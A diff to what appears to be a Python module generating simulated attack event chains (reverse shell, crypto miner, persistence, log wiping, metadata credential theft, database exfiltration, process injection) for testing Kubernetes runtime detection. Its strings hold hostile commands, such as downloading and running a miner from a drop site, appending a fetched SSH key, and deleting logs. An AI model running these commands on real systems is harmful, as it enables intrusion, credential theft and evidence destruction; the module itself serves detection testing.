@@ -1,6 +1,6 @@
-"""The attacks that single events give away: each a short chain with its process tree, told once for a pod or node."""
+"""Attacks that single events reveal: each is a short chain of events with its process tree, in a pod or on a node."""
 
-# ruff: noqa: S104, S108 - addresses and paths are told, not used
+# ruff: noqa: S104, S108 - addresses and paths are written into events, not used
 
 from collections.abc import Callable
 
@@ -16,7 +16,8 @@ _API = "10.96.0.1"
 _CLONE_NEWNS, _CLONE_NEWPID, _CLONE_NEWUSER = 0x0002_0000, 0x2000_0000, 0x1000_0000
 _PTRACE_ATTACH = 16
 
-Tell = Callable[[Script], None]
+Attack = Callable[[Script], None]
+"""Appends the events of an attack to a script."""
 
 
 def reverse_shell(s: Script) -> None:
@@ -33,7 +34,7 @@ def reverse_shell(s: Script) -> None:
 
 
 def crypto_miner(s: Script) -> None:
-    """A miner is fetched to a temporary directory, started, and talks to its pool."""
+    """A miner is downloaded to a temporary directory, started, and connects to its pool."""
     command = f"curl -fsSL http://{DROP_SITE}/x.tar.gz | tar xz -C /tmp"
     shell = s.exec(s.home.worker, "/bin/sh", f'-c "{command}; chmod +x /tmp/xmrig; /tmp/xmrig"')
     fetch = s.exec(shell, "/usr/bin/curl", f"-fsSL http://{DROP_SITE}/x.tar.gz")
@@ -108,21 +109,21 @@ def setuid_escalation(s: Script) -> None:
 
 
 def exec_recon(s: Script) -> None:
-    """Somebody enters the pod with ``kubectl exec`` and looks around."""
+    """Somebody enters the pod with ``kubectl exec`` and explores it."""
     shell = s.inject("/bin/bash", "")
     s.hook(shell, hooks.shell_readline())
-    looks = (
+    commands = (
         ("/usr/bin/id", ""), ("/usr/bin/whoami", ""), ("/usr/bin/uname", "-a"), ("/usr/bin/env", ""),
         ("/bin/mount", ""), ("/bin/ps", "aux"), ("/sbin/ip", "addr"), ("/usr/bin/find", "/ -name id_rsa"),
         ("/usr/bin/nmap", "-sT -p 22,443,2379,6443,10250 10.0.0.0/24"),
     )  # fmt: skip
-    for binary, arguments in looks:
+    for binary, arguments in commands:
         s.run(shell, binary, arguments)
     s.exit(shell)
 
 
 def log_wiping(s: Script) -> None:
-    """Traces are removed."""
+    """Logs and shell history are deleted."""
     shell = s.inject("/bin/bash", '-c "rm -rf /var/log/*; history -c; ln -sf /dev/null ~/.bash_history"', uid=0)
     remove = s.exec(shell, "/bin/rm", "-rf /var/log/nginx /var/log/auth.log /var/log/wtmp")
     s.exit(remove)
@@ -134,7 +135,7 @@ def log_wiping(s: Script) -> None:
 
 
 def persistence(s: Script) -> None:
-    """A key and a cron job are left on the node."""
+    """An SSH key and a cron job are installed on the node."""
     shell = s.exec(s.home.daemons["sshd"], "/bin/bash", f'-c "curl -s http://{DROP_SITE}/k >> ~/.ssh/authorized_keys"')
     fetch = s.exec(shell, "/usr/bin/curl", f"-s http://{DROP_SITE}/k")
     s.hook(fetch, hooks.connect(s.address, 39_014, DROP_SITE, 80, 39_014))
@@ -158,7 +159,7 @@ def kernel_module(s: Script) -> None:
 
 
 def fileless(s: Script) -> None:
-    """A program that exists in memory only is executed and listens."""
+    """A program that exists only in memory is executed and opens a port."""
     loader = s.exec(s.home.worker, "/usr/bin/python3", "-c \"import os,urllib.request as u;fd=os.memfd_create('')\"")
     s.hook(loader, hooks.memfd_create("payload"))
     s.hook(loader, hooks.bprm_check("/proc/self/fd/3"))
@@ -171,7 +172,7 @@ def fileless(s: Script) -> None:
 
 
 def metadata_theft(s: Script) -> None:
-    """The cloud's metadata service is asked for the node's credentials."""
+    """The node's credentials are read from the cloud's metadata service."""
     path = f"http://{METADATA}/latest/meta-data/iam/security-credentials/"
     shell = s.exec(s.home.worker, "/bin/sh", f'-c "curl -s {path}"')
     for port, address in ((52_010, path), (52_011, f"{path}node-role")):
@@ -182,7 +183,7 @@ def metadata_theft(s: Script) -> None:
 
 
 def exfiltration(s: Script) -> None:
-    """The database is dumped, packed and sent out."""
+    """The database is dumped, compressed and uploaded."""
     shell = s.inject("/bin/bash", '-c "pg_dump -U postgres ledger | gzip > /tmp/.d.gz"')
     s.run(shell, "/usr/bin/pg_dump", "-U postgres ledger")
     s.run(shell, "/bin/gzip", "")
@@ -197,7 +198,7 @@ def exfiltration(s: Script) -> None:
 
 
 def process_injection(s: Script) -> None:
-    """A process is attached to and its memory written; the attempt to become root is answered with a kill."""
+    """A tool attaches to a process and writes its memory; then it tries to become root and is killed."""
     tool = s.inject("/opt/evil/inject", "--pid 1 --shellcode /tmp/s")
     s.hook(tool, hooks.unshare(_CLONE_NEWUSER))
     s.hook(tool, hooks.ptrace(_PTRACE_ATTACH, s.home.main.pid))
